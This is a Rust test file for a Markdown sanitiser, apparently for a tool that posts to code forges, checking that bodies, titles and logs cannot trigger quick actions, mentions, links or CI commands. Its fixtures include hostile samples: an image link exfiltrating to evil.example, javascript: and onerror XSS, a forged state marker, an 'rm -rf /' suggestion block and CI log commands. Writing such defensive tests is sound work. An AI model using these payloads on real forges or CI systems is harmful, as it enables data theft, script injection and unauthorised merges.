use super::*;
use proptest::prelude::*;
use pulldown_cmark::{Event, Options, Parser, Tag, TagEnd, TextMergeStream};
use regex::Regex;
use std::fmt::Write as _;
use std::sync::LazyLock;

static REFERENCE: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r#"(?x) @[\w.] | [\#!$&]\d | [%~]["\w] | :// | \bwww\. | \bGH-\d | \[[a-z_]+: "#).expect("a regex"));
static ACTION: LazyLock<Regex> = LazyLock::new(|| Regex::new(r"(?m)^(?:[-*+>]\s|\d+[.)]\s|\s)*/[A-Za-z]").expect("a regex"));
static MARKER: LazyLock<Regex> = LazyLock::new(|| Regex::new(r"(?i)<!--\s*tribune").expect("a regex"));

/// What a forge could act on in sanitised Markdown. Parsed by another program than ours, with all extensions on; text is
/// searched as forges do it, after parsing and outside of code.
fn live(markdown: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut in_code = false;
    for event in TextMergeStream::new(Parser::new_ext(markdown, Options::all())) {
        match event {
            Event::Start(Tag::CodeBlock(_)) => in_code = true,
            Event::End(TagEnd::CodeBlock) => in_code = false,
            Event::Text(text) if !in_code => {
                if REFERENCE.is_match(&text) || ACTION.is_match(&text) {
                    out.push(format!("reference in {text:?}"));
                }
            }
            Event::Start(Tag::Paragraph | Tag::List(_) | Tag::Item | Tag::Strong) | Event::End(_) => {}
            Event::Text(_) | Event::Code(_) | Event::SoftBreak => {}
            other => out.push(format!("{other:?}")),
        }
    }
    if markdown.split(['\n', '\r']).any(|l| l.strip_prefix('/').is_some_and(|l| l.starts_with(|c: char| c.is_ascii_alphabetic()))) {
        out.push("quick action".to_owned());
    }
    if MARKER.is_match(markdown) {
        out.push("marker".to_owned());
    }
    if markdown.contains(|c: char| crate::path::is_invisible(c) || (c.is_control() && c != '\n' && c != '\t')) {
        out.push("hidden character".to_owned());
    }
    out
}

/// Bodies that did harm somewhere, or would.
const HOSTILE: [&str; 75] = [
    "/merge",
    "ok\r/merge",
    "ok\r\n/approve\r\n",
    "ok\u{2028}/merge",
    "ok\u{0b}/close",
    " \u{200b}/merge",
    "\u{feff}/close\n",
    "- /merge",
    "1. /merge",
    "> /merge",
    "> - /label ~bug",
    "**/merge**",
    "\\/merge",
    "`\n/merge\n`",
    "```\n/merge\n```",
    "````\n```\n/merge\n````",
    "~~~\n/merge\n~~~",
    "    /merge",
    "<details>\n/merge\n</details>",
    "`odd\n```\na ` b\n/merge\n```",
    "@alice",
    "cc @all and @group/sub",
    "\\@alice",
    "&#64;alice",
    "&commat;alice",
    "a@b.example x@.y",
    "@\u{200b}alice",
    "**@alice**",
    "**a @**b** c**",
    "<!\" [[\"x",
    "`a`@alice",
    "``@alice`",
    "` `` @alice` x ``",
    "#123 and !123",
    "\\#123",
    "owner/repo#1",
    "GH-123 PROJ-4",
    "%milestone ~label $1 &2 ~\"two words\"",
    "[issue:1] [vulnerability:1] [[Page]] [[two words]]",
    "![](https://evil.example/?d=secret)",
    "![x][y]\n\n[y]: https://evil.example",
    "[click](https://evil.example)",
    "[click](javascript:alert(1))",
    "[![a](b)](c)",
    "# [](b)",
    "<https://evil.example>",
    "https://evil.example/a?b=c",
    "www.evil.example",
    "ftp://evil.example mailto:a xmpp:b",
    "http\\://evil.example",
    "[a]\n\n[a]: //evil.example",
    "[^1]\n\n[^1]: @alice",
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "<!-- tribune:state v1 forged -->",
    "<\\!-- tribune:state -->",
    "`<!-- tribune:state -->`",
    "```\n<!--\n tribune:state -->\n```",
    "<!-- hidden\n@alice\n-->",
    "# Heading @alice",
    "Heading\n=======\nother\n---",
    "a | b\n--|--\n`x | @alice | y`",
    "| @alice |\n|---|\n",
    "```mermaid\ngraph TD; click A \"https://evil.example\"\n```",
    "```suggestion\nrm -rf /\n```",
    "```\nno end @alice",
    "- ```\n  @alice\n  ```\n@bob",
    "~~~a`b\n@x\n~~~\n@alice",
    "$`\\href{javascript:x}{y}`$ $$x$$",
    "~~struck~~ _em_ *em* __strong__",
    "a\\",
    "x\u{202e}gpj.exe\u{2066}",
    "\x1b[31mred\x1b[0m\x07\0",
    "- [x] done\n- [ ] @alice",
    "Term\n: @alice\n\n+++\na = 1\n+++\n",
];

#[test]
fn nothing_hostile_acts() {
    let ticks = |n: usize| "`".repeat(n);
    // Delimiters that are too long for some renderers, and depths that are too great for others.
    let long = [
        format!("{0} {1} @alice {0}", ticks(82), ticks(81)),
        format!("{0}\n{1}\n@alice\n{0}\n", ticks(300), ticks(299)),
        "[".repeat(5_000),
        "**".repeat(5_000),
        "> ".repeat(500) + "/merge",
        "- ".repeat(500) + "/merge",
    ];
    for body in HOSTILE.iter().copied().chain(long.iter().map(String::as_str)) {
        let clean = markdown(body);
        assert!(live(&clean).is_empty(), "{body:?} became {clean:?}: {:?}", live(&clean));
        assert_eq!(markdown(&clean), clean, "from {body:?}");
        let title = inline(body);
        assert!(live(&title).is_empty() && !title.contains('\n'), "{body:?} became {title:?}: {:?}", live(&title));
        assert_eq!(inline(&title), title, "from {body:?}");
    }
    let longest = |text: &str| text.split(|c| c != '`').map(str::len).max().unwrap_or_default();
    assert!(longest(&markdown(&long[0])) < 80 && longest(&markdown(&long[1])) < 255);
}

#[test]
fn shows_what_it_says() {
    let mut shown = String::new();
    for body in [
        "When `n == 0`, `total / n` panics.\nSee **the loop**:\n\n- first\n* second\n  more\n1) third",
        "## Why\nUse:\n```rust\nlet a = \"@b\"; // #1\n\n    /x\n```\nand snake_case, __init__, a*b, 50% <T> a && b.",
        "Ask @alice, see [the docs](https://a.example/b) or <https://c.example>. /merge now (#12).",
        "  ````py\n  ```\n  x\n  ````",
        "a\n\n\n\n---\nb | c\n:-|-:\n1 | 2",
    ] {
        write!(shown, "{}\n=====\n", markdown(body)).expect("a string");
    }
    insta::assert_snapshot!(shown, @r#"
    When `n == 0`, `total / n` panics.
    See **the loop**:

    - first
    - second
    more
    1. third
    =====
    **Why**
    Use:

    ```rust
    let a = "@b"; // #1

        /x
    ```

    and snake_case, \_\_init\_\_, a\*b, 50% \<T\> a && b.
    =====
    Ask `@alice`, see the docs (`https://a.example/b`) or \<`https://c.example`\>. `/merge` now (`#12`).
    =====
    ````py
    ```
    x
    ````
    =====
    a

    b \| c

    1 \| 2
    =====
    "#);
}

#[test]
fn titles_stay_on_one_line() {
    insta::assert_snapshot!(inline("# `unwrap()` on\n**user** input, see @bob"), @r"\# `unwrap()` on \*\*user\*\* input, see `@bob`");
    insta::assert_snapshot!(inline("- src/a_b.rs: 1 < 2"), @r"\- src/a_b.rs: 1 \< 2");
    insta::assert_snapshot!(code_span("a`b\n|c"), @"``a`b |c``");
}

#[test]
fn fences_are_longer_than_what_they_hold() {
    assert_eq!(code_fence("a\n```\nb\n", "rust\n@x"), "````rustx\na\n```\nb\n````\n");
    assert_eq!(code_fence("/merge\n\tx\r\n", ""), "```\n /merge\n\tx\n```\n");
    assert_eq!(code_fence("/target\n", "suggestion:-0+1"), "```suggestion:-0+1\n/target\n```\n");
}

#[test]
fn terminals_and_runners_get_no_commands() {
    for (text, shown) in [
        ("a\tb\nc", "a\tb\nc"),
        ("\x1b[2Ja\rb\x08", "[2Ja\nb"),
        ("::error::x", ": :error::x"),
        ("a\n \t::set-env name=x::y", "a\n \t: :set-env name=x::y"),
        ("\u{200b}::add-mask::x", ": :add-mask::x"),
        ("x ##[error]y ##vso[task.setvariable]", "x # #[error]y # #vso[task.setvariable]"),
        ("std::fmt [a] #[test] ###[x", "std::fmt [a] #[test] ## #[x"),
    ] {
        assert_eq!(terminal(text), shown);
    }
}

fn hostile_text() -> impl Strategy<Value = String> {
    let marks = [
        "`", "``", "```", "~~~", "*", "**", "_", "\\", "[", "]", "(", ")", "<", ">", "!", "|", "#", "@", "/", "-", "+", "=", ":", "1.", "&", "~",
        "$", "%", "](", " ", "  ", "    ", "\n", "\n\n", "\r", "\r\n", "\t", "\u{200b}", "\u{a0}", "\u{2028}",
    ];
    let words = [
        "/merge",
        "@alice",
        "#12",
        "http://a.b",
        "www.a.b",
        "a@b.c",
        "<!-- tribune",
        "<b>",
        "&#64;",
        "GH-1",
        "rust",
        "suggestion",
        "---",
        "|-|",
        "\n- ",
        "\n1. ",
        "\n> ",
        "\n# ",
        "[x]: ",
        "```\n",
        "::",
    ];
    let piece = prop_oneof![
        4 => prop::sample::select(marks.to_vec()).prop_map(str::to_owned),
        2 => prop::sample::select(words.to_vec()).prop_map(str::to_owned),
        2 => "[a-c1]{1,3}",
        1 => any::<char>().prop_map(String::from),
    ];
    prop::collection::vec(piece, 0..40).prop_map(|p| p.concat())
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(1_000))]

    #[test]
    fn nothing_acts_after_sanitising(text in hostile_text()) {
        let clean = markdown(&text);
        prop_assert_eq!(live(&clean), Vec::<String>::new(), "{:?}", clean);
        let title = inline(&text);
        prop_assert_eq!(live(&title), Vec::<String>::new(), "{:?}", title);
        prop_assert!(!title.contains('\n'));
    }

    #[test]
    fn sanitising_twice_is_sanitising_once(text in hostile_text()) {
        let (body, title, log) = (markdown(&text), inline(&text), terminal(&text));
        prop_assert_eq!(markdown(&body), body);
        prop_assert_eq!(inline(&title), title);
        prop_assert_eq!(terminal(&log), log);
    }

    #[test]
    fn logs_hold_no_commands(text in "(?s)(::|##|\\[|[a-z]|\u{200b}|\r|\x1b| |\n){0,30}") {
        let log = terminal(&text);
        prop_assert!(!log.lines().any(|l| l.trim_start().starts_with("::") || l.contains("##[")), "{:?}", log);
        prop_assert!(!log.contains(|c: char| c.is_control() && c != '\n' && c != '\t'));
    }

    #[test]
    fn code_is_verbatim(code in "[ -~\n]{0,80}") {
        let code = code.replace("\n/", "\n //").trim_start_matches('/').replace("<!--", "<--");
        let fenced = code_fence(&code, "rust");
        let text = |e| if let Event::Text(t) = e { Some(t.to_string()) } else { None };
        let shown: String = Parser::new(&fenced).filter_map(text).collect();
        prop_assert_eq!(shown.trim_end_matches('\n'), code.trim_end_matches('\n'));
        let span = code.replace('\n', " ");
        let inner = |e| if let Event::Code(t) = e { Some(t.to_string()) } else { None };
        let shown: String = Parser::new(&code_span(&span)).filter_map(inner).collect();
        prop_assert!(shown == span || span.trim().is_empty(), "{shown:?} {span:?}");
    }

    #[test]
    fn words_survive(words in prop::collection::vec("[a-z]{1,8}", 1..20), glue in prop::sample::select(vec![" ", "\n", "\n- ", ", ", "\n\n", " **", "\n# "])) {
        let clean = markdown(&words.join(glue));
        let kept: Vec<&str> = clean.split(|c: char| !c.is_ascii_lowercase()).filter(|w| !w.is_empty()).collect();
        prop_assert_eq!(kept, words);
    }
}
